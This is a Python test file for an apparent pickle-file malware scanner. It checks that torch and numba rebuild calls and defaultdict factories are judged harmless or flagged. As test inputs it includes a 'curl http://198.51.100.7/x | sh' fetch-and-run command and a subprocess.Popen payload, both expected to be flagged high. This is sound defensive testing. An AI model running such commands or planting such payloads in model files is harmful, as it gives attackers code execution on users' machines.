"""Exemptions cover the use that was reviewed and nothing beside it."""

from __future__ import annotations

from toadstone.core.fact import Call, Unread
from toadstone.core.finding import Severity
from toadstone.core.place import Place
from toadstone.core.value import Items, Opaque, Result, Symbol
from toadstone.symbols.harmless import is_harmless
from toadstone.symbols.judgement import judge_call
from toadstone.symbols.weighing import Judgement

PLACE = Place("model.pkl", offset=1)


def test_a_rebuilt_object_must_come_from_the_reviewed_function():
    rebuild = Symbol("numba.core.serialize", "custom_rebuild")
    crafted = Result(Symbol("types", "SimpleNamespace"))
    assert judge_call(Call(PLACE, rebuild, (crafted,), (), "REDUCE", "pickle")) is not None
    known = Result(Symbol("numba.core.serialize", "_unpickle__CustomPickled"), (b"",))
    assert is_harmless(rebuild, "REDUCE", (known,))


def test_a_default_factory_must_be_one_of_the_reviewed():
    table = Symbol("collections", "defaultdict")
    assert is_harmless(table, "REDUCE", (Symbol("builtins", "list"),))
    assert not is_harmless(table, "REDUCE", (Symbol("io", "open"),))


def test_a_file_of_nothing_but_zeros_is_not_clean(read):
    _, facts = read(bytes(5000), "model.pkl")
    assert any(isinstance(fact, Unread) for fact in facts)


def rebuilt(new_type: Symbol, state: object) -> Call:
    tensor = (
        Symbol("", "persistent_load"),
        0,
        Items("tuple", [2]),
        Items("tuple", [1]),
        False,
        Result(Symbol("collections", "OrderedDict")),
    )
    args = (
        Symbol("torch._utils", "_rebuild_tensor_v2"),
        new_type,
        Items("tuple", list(tensor)),
        Items("dict", [Items("tuple", ["x", state])]),
    )
    return Call(PLACE, Symbol("torch._tensor", "_rebuild_from_type_v2"), args, (), "REDUCE", "pickle")


def test_the_class_of_a_rebuilt_tensor_is_judged():
    assert judge_call(rebuilt(Symbol("torch", "Tensor"), 1)) is None
    assert judge_call(rebuilt(Symbol("torch.nn.parameter", "Parameter"), True)) is None
    unknown = judge_call(rebuilt(Symbol("acme.tensors", "Tensor"), 1))
    assert unknown is not None
    assert unknown.severity is Severity.MEDIUM
    commanded = judge_call(rebuilt(Symbol("acme.tensors", "Tensor"), "curl http://198.51.100.7/x | sh"))
    assert commanded is not None
    assert commanded.severity is Severity.HIGH


def test_a_type_of_numba_is_made_of_an_ordinary_class():
    def made(cls: Symbol, base: Symbol, state: object) -> Call:
        parts = Items("tuple", [cls, base, state])
        args = (Symbol("copyreg", "_reconstructor"), parts, Items("dict", []))
        return Call(PLACE, Symbol("numba.core.types.abstract", "_type_reconstructor"), args, (), "REDUCE", "pickle")

    scalar = Symbol("numba.core.types.scalars", "Float")
    assert judge_call(made(scalar, Symbol("builtins", "object"), None)) is None
    judged = judge_call(made(scalar, Symbol("subprocess", "Popen"), "id"))
    assert judged is not None
    assert judged.severity >= Severity.HIGH


def test_arguments_that_were_not_kept_may_be_the_payload():
    crowd = tuple(range(256))
    for symbol in (Symbol("acme.tools", "run"), Symbol("acme.tools", "Runner")):
        assert severity_of(judge_call(Call(PLACE, symbol, crowd, (), "REDUCE", "pickle"))) is Severity.MEDIUM
        cut = Call(PLACE, symbol, crowd, (("**", Opaque("...")),), "REDUCE", "pickle")
        assert severity_of(judge_call(cut)) is Severity.HIGH


def severity_of(judged: Judgement | None) -> Severity | None:
    return judged.severity if judged is not None else None
